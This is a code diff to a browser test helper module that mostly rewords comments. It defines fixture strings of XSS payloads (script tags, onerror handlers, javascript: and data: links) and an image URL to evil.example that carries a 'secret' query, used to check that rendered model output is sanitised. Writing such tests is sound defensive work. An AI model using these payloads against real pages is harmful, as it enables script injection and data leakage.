@@ -6,11 +6,11 @@ import { createRequire } from 'node:module';
 
 const axe = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
 
-/** What a model might say if it wanted to run something here, or to tell somebody. */
+/** Texts of a model that tries to run a script or to contact a server. */
 export const HOSTILE = '# <img src=x onerror="window.owned=1">\n\n<script>window.owned = 1</script>\n\n![pixel](https://evil.example/pixel.png?q=secret)\n\n[click](javascript:window.owned=1) [data](data:text/html,<script>1</script>)\n\n<iframe src="https://evil.example"></iframe> <a href="javascript:window.owned=1">x</a>\n\n[ok](https://example.org/)';
 export const NASTY = '"><script>window.owned=1</script>';
 
-/** Whom the page speaks to besides its own server, and what it shouts. */
+/** Records requests to other servers and dialogs of the page. */
 export function watchRequests(page, url) {
   const met = [];
   page.on('request', (request) => {
@@ -43,7 +43,7 @@ export async function assertAccessible(page, url, places) {
   }
 }
 
-/** A phone, a tablet, a desk. */
+/** A phone, a tablet, a desktop. */
 export async function assertNoOverflow(page, url, places) {
   for (const width of [375, 768, 1600]) {
     await page.setViewportSize({ width, height: 900 });
@@ -55,7 +55,7 @@ export async function assertNoOverflow(page, url, places) {
   }
 }
 
-/** Buttons and links that somebody cannot hit because another one lies on them. */
+/** Buttons and links that are covered by another. */
 function covered() {
   const shown = [...document.querySelectorAll('main button, main a, main input')].filter((element) => {
     const box = element.getBoundingClientRect();
